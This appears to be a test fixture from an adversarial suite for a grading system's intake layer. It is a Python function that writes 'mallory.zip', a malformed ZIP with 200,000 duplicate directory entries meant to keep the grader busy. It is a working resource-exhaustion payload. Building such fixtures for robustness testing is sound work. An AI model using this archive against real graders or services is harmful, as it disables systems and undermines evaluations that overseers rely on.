"""
aim: keep the grader busy with half a million empty files
layer: intake
levels: A B C D
slow: yes
"""

import struct


def build(folder, places):
    many = 200_000
    local = (
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 4, 0) + b"a.py"
    )
    entry = (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            4,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"a.py"
    )
    end = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        0xFFFF,
        0xFFFF,
        len(entry) * many,
        len(local),
        0,
    )
    (folder / "mallory.zip").write_bytes(local + entry * many + end)
